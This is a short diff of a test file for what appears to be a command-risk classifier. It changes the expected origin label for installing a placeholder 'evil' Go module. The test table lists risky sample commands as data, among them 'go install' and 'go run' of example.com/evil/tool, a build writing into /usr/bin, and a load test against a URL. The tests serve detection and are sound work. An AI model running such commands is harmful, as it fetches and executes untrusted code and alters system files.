@@ -79,7 +79,7 @@ describe('recipes are read', () => {
     ['goreleaser release --clean', {}, { kind: 'publish' }],
     ['dotnet nuget push x.nupkg', {}, { kind: 'publish' }],
     ['go build -o /usr/bin/x ./...', {}, { kind: 'write-path' }],
-    ['go install example.com/evil/tool@latest', {}, { kind: 'install', origin: 'registry' }],
+    ['go install example.com/evil/tool@latest', {}, { kind: 'install', origin: 'git' }],
     ['go run example.com/evil/tool@latest', {}, { kind: 'install' }],
     ['k6 run https://example.com', {}, { kind: 'exhaust', certainty: 'possible' }],
   ]
